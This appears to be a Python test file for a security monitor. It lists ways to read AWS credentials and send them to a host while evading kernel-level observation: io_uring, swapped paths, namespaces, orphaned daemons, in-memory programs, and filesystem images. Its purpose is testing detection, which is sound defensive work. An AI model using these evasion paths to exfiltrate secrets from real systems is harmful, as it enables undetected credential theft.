# SPDX-License-Identifier: Apache-2.0
"""Ways into and out of the kernel on which a watcher may miss a path, a call or a clock. Right: the key and its use are
named as on any other way."""
import os
import subprocess

from attack import CREDENTIALS, HERE, NAMED, PYTHON, Attack, Right

HIDDEN = HERE + "/hidden.py"


class Hidden(Attack):
    def hidden(self, *words, **options):
        return self.start([PYTHON, "-I", HIDDEN, *words], binds=self.disk(), **options)


def takes(way):
    def attack(self):
        self.hidden("take", way, CREDENTIALS, "out", "plain", self.host)
        return Right(taken=True, used=NAMED)
    return attack


def goes(way):
    def attack(self):
        self.hidden("out", way, self.host, env=self.key.env())
        return Right(taken=True, used=NAMED)
    return attack


class Rings(Hidden):
    attack_read_over_io_uring = takes("ring")
    attack_read_over_io_uring_by_its_worker = takes("ring_worker")
    attack_read_over_io_uring_that_polls = takes("ring_poller")
    attack_connect_over_io_uring = goes("ring")


class Paths(Hidden):
    """What was asked for is not in memory, or not what is opened."""
    attack_path_in_a_page_that_is_not_there = takes("page")
    attack_path_in_a_page_that_is_held_back = takes("held_page")
    attack_path_that_is_exchanged_during_the_open = takes("flip")


class Namespaces(Hidden):
    attack_clocks_of_its_own = takes("other_time")
    attack_users_processes_and_cgroups_of_its_own = takes("other_names")


class Lives(Hidden):
    attack_grandchild_whose_parent_is_gone = goes("daemon")
    attack_program_that_lies_in_memory = goes("memory_program")

    def attack_environment_written_over(self):
        """What the program was started with counts."""
        self.hidden("take", "other_environment", "-", "out", "plain", self.host, env=self.key.env())
        return Right(taken=True, used=NAMED)

    def attack_key_behind_a_huge_environment(self):
        """Whether all of it is read or it is said to be cut: the other key is not the only one then."""
        used = self.maker.aws()
        self.true = used.id
        self.hidden("take", "open", CREDENTIALS, "out", "plain", self.host,
                    env={**{f"FILL{number}": "x" * 20 for number in range(9000)}, **used.env()})
        return Right(taken=True, used=("possible",), listed=False)

    def attack_memory_shared_with_a_child(self):
        """The child reads, the parent calls; another key that fits stands in the environment."""
        self.hidden("take", "shared_memory", CREDENTIALS, "out", "plain", self.host, env=self.maker.aws().env())
        return Right(taken=True, used=("possible",))


class Images(Hidden):
    """A file system in a file."""
    def image(self):
        self.disk()
        folder = self.filled("image", {".aws/credentials": (self.key.profile(), 0o600)})
        try:
            subprocess.run(["/usr/sbin/mkfs.ext4", "-q", "-O", "^has_journal", "-d", folder, self.srv + "/image", "2M"],
                           check=True, capture_output=True)
        except FileNotFoundError:
            open(self.srv + "/image", "w").close()  # which nobody can mount: a skip
        os.chmod(self.srv + "/image", 0o644)
        return "/srv/image"

    def attack_image_that_is_mounted(self):
        self.hidden("take", "image", self.image(), "out", "plain", self.host)
        return Right(taken=True, used=NAMED)

    def attack_image_that_is_read_as_it_is(self):
        self.hidden("take", "open", self.image(), "out", "plain", self.host)
        return Right(taken=True, used=NAMED, stated="from the disk's device or from an image of one")
